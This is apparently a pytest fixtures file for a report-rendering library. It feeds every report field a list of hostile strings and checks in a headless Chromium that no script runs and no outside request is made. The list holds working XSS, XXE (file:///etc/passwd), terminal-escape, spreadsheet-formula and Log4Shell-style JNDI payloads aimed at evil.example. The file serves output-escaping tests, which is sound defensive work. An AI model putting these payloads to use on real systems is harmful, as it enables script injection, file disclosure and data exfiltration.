import math
import random
import shutil
from dataclasses import replace

import pytest

from nabla_core import Rule, Severity
from nabla_core.issue import Location, Quantity, Reproduction
from nabla_core.plots import Curves, HeatMap, Ladder, Series, Span, Table, Timeline
from nabla_core.problem import Problem
from nabla_core.report import AllowedIssue, Cause, NotEvaluated, Report, RunInfo, Section
from nabla_core.sampling import CurveSampler, GridSampler

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1//",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=a></form>",
    "<object data=https://evil.example></object>",
    "<details open ontoggle=window.pwned=1>",
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    'x" style="background:url(https://evil.example)',
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1",
    "]]><![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "nul\x00 bell\x07 vertical\x0b form\x0c ffff\uffff fffe\ufffe",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m c1 \x90q \x9d0;x\x9c",
    "abc\u202egnp.exe \u2066hidden\u2069 \u200fright\u061c",
    "line\u2028separator\u2029paragraph\x85next",
    "half \ud800 of a pair \udfff",
    "[click](javascript:window.pwned=1)",
    "![track](https://evil.example/x.png)",
    '[x]: https://evil.example "t"',
    "https://evil.example www.evil.example <https://evil.example>",
    "| a | b |\n|---|---|\n| ``` | `x` |\n# heading\n- item",
    "@everyone #1 **bold** __x__ ~~y~~ $$z$$",
    '=HYPERLINK("https://evil.example","x")',
    "first\r\n::error::forged\r\n##[error]forged %0A{0} {{1}} ${jndi:ldap://evil.example}",
)


@pytest.fixture(params=range(len(HOSTILE)), ids=lambda number: f"name{number}")
def hostile_name(request):
    return HOSTILE[request.param]


@pytest.fixture(scope="session")
def hostile_names():
    return HOSTILE


@pytest.fixture(scope="session")
def make_rule():
    def make(rule_id="ACM101", **changes):
        texts = {
            "name": f"rule-{rule_id.lower()}",
            "summary": "Something is wrong.",
            "rationale": "It matters.",
            "fix": "Mend it.",
            "limits": "Silent without facts.",
            "severity": Severity.HIGH,
            "since": "0.1",
        }
        return Rule(id=rule_id, **{**texts, **changes})

    return make


@pytest.fixture(scope="session")
def poisoned(make_rule):
    """Return a report in which every text that a program may choose is hostile."""

    def make(*names):
        issues, sections, causes = [], [], []
        for number, name in enumerate(names):
            rule = make_rule(f"ACM{101 + number}", name=f"rule-{number}")
            where = Location(module=name, parameter=name, op=name, file=name, line=3, function=name)
            issue = rule.issue(name, step=3 + number, where=where, phase="loss", **{name: name})
            issue = replace(
                issue,
                rule=name,
                name=name,
                suggestion=name,
                limitation=name,
                plugin=name,
                artifact=name,
                related=(name,),
                reproduction=Reproduction(seed=1, command=name, script=name),
            )
            issues.append(issue)
            causes.append(
                Cause(
                    rule=name,
                    chain=(issue.fingerprint,),
                    score=0.5,
                    statement=name,
                    tests=(name,),
                    supports=(name,),
                    contradicts=(name,),
                    where=Location(module=name),
                    step=3,
                )  # fmt: skip
            )
            sections.append(Section(title=name, lines=(name,), plots=every_plot(name)))
        return Report(
            run=RunInfo(command=names[0], steps=9, versions={names[0]: names[0]}, device=names[0]),
            issues=tuple(issues),
            rules_used=names,
            not_evaluated=tuple(NotEvaluated(rule=name, reason=name) for name in names),
            allowed=tuple(AllowedIssue(issue=i, reason=i.name, source=i.name) for i in issues),
            stale_baseline=names,
            causes=tuple(causes),
            sections=tuple(sections),
            problems=tuple(
                Problem(rule=name, plugin=name, message=name, hint=name) for name in names
            ),
            exit_code=1,
        )

    return make


def every_plot(name):
    series = Series(name=name, at=(0.0, 5.0, 9.0), values=(1.0, math.nan, 3.0))
    grid = tuple(tuple(float(row + column) for column in range(14)) for row in range(2))
    return (
        Curves(title=name, series=(series, series), unit=name, note=name),
        HeatMap(
            title=name, rows=(name, name), columns=(name,) * 14, values=grid,
            row_label=name, column_label=name, unit=name, note=name,
        ),
        Ladder(title=name, rungs=(name, name), unit=name,
               series=(Series(name=name, at=(0, 1), values=(1.0, 2.0)),), limit=1.5),
        Table(title=name, columns=(name,), rows=((name,),)),
        Timeline(title=name, x_label=name,
                 spans=(Span(lane=name, label=name, start=0, end=4, severity=Severity.HIGH),)),
    )  # fmt: skip


@pytest.fixture(scope="session")
def plots_of_each_kind():
    return every_plot


@pytest.fixture(scope="session")
def report(make_rule):
    first = make_rule(severity=Severity.HIGH).issue(
        "The loss was nan (limit finite).",
        step=40,
        phase="loss",
        where=Location(module="head", file="train.py", line=7),
        loss=Quantity(value=math.nan, limit=1.0),
        optimizer="SGD",
    )
    first = replace(first, count=5, last_step=90, reproduction=Reproduction(command="python t.py"))
    second = make_rule("ACM102", name="small", severity=Severity.MEDIUM).issue(
        "Weights grew 40 times (limit 30).", step=20, where=Location(module="body.0")
    )
    third = make_rule("ACM103", name="note", severity=Severity.INFO).issue("Worth knowing.")
    cause = Cause(
        rule="CAU101",
        chain=(second.fingerprint, first.fingerprint),
        score=0.8,
        statement="The weights grew until the loss was nan.",
        tests=("Replay with the learning rate divided by ten.",),
    )
    course = Curves(
        title="Loss",
        series=(
            Series(
                name="loss",
                at=tuple(range(100)),
                values=tuple(2.0 / (1 + step) for step in range(100)),
            ),
        ),
    )
    return Report(
        run=RunInfo(
            command="nabla run train.py",
            started_utc="2026-01-02T03:04:05+00:00",
            steps=100,
            duration_s=3.5,
            versions={"nabla-core": "0.1.0"},
            seed=7,
        ),
        issues=(second, first, third),
        rules_used=("ACM101", "ACM102", "ACM103", "ACM104"),
        not_evaluated=(NotEvaluated(rule="ACM105", reason="needs lr"),),
        allowed=(
            AllowedIssue(
                issue=replace(second, where=Location(module="x")), reason="known", source="baseline"
            ),
        ),
        causes=(cause,),
        sections=(
            Section(title="Course", plots=(course,)),
            Section(title="All kinds", lines=("as text",), plots=every_plot("thing")),
        ),
        problems=(Problem(rule="NAB004", plugin="x", message="m", hint="h"),),
        exit_code=1,
    )


@pytest.fixture(scope="session")
def long_run(make_rule):
    """Return the report of 10,000 steps of 200 layers with 40 issues."""
    generator = random.Random(0)
    curves = {name: CurveSampler() for name in ("loss", "lr", "grad_norm")}
    grids = [GridSampler(), GridSampler(), GridSampler()]
    layers = [f"model.blocks.{number}.linear" for number in range(200)]
    for step in range(10_000):
        for sampler in curves.values():
            sampler.add(step, generator.random())
        if step % 100 == 0:
            for grid in grids:
                grid.add(step, {layer: math.exp(generator.gauss(0, 1)) for layer in layers})
    issues = tuple(
        make_rule("ACM101").issue(
            f"The norm rose to {n} times its median (limit 8).",
            step=100 * n,
            where=Location(module=layers[n]),
            ratio=Quantity(value=float(n), limit=8.0),
        )
        for n in range(40)
    )
    ladder = Ladder(
        title="Norms",
        rungs=tuple(layers),
        scale="log",
        series=(
            Series(
                name="norm",
                at=tuple(range(200)),
                values=tuple(1.0 + depth for depth in range(200)),
            ),
        ),
    )
    course = tuple(Curves(title=n, series=(s.series(n),)) for n, s in curves.items())
    maps = tuple(grid.heat_map(f"map {n}") for n, grid in enumerate(grids))
    return Report(
        run=RunInfo(steps=10_000),
        issues=issues,
        rules_used=("ACM101",),
        sections=(
            Section(title="Course", plots=course),
            Section(title="Layers", plots=(*maps, ladder)),
            Section(title="Rest", plots=every_plot("x")),
        ),
        exit_code=1,
    )


@pytest.fixture(scope="session")
def chromium():
    """Return a headless browser; what needs it is skipped loudly where there is none."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    path = next(
        filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), ""
    )
    if not path:
        pytest.skip("NO BROWSER: install chromium to test pages in a real one")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def opened(chromium, tmp_path):
    """Open a page of text; ``page.noise`` collects errors, warnings, dialogs and requests."""
    contexts = []

    def open_page(text, **context):
        path = tmp_path / f"page{len(contexts)}.html"
        path.write_text(text, encoding="utf-8")
        contexts.append(chromium.new_context(**context))
        page = contexts[-1].new_page()
        noise = page.noise = []
        page.on(
            "console", lambda m: noise.append(m.text) if m.type in ("error", "warning") else None
        )
        page.on("pageerror", lambda error: noise.append(str(error)))
        page.on("dialog", lambda dialog: (noise.append("dialog"), dialog.dismiss()))
        page.on("request", lambda r: noise.append(r.url) if not r.url.startswith(LOCAL) else None)
        page.goto(path.as_uri())
        return page

    yield open_page
    for context in contexts:
        context.close()


LOCAL = ("file:", "data:", "blob:")
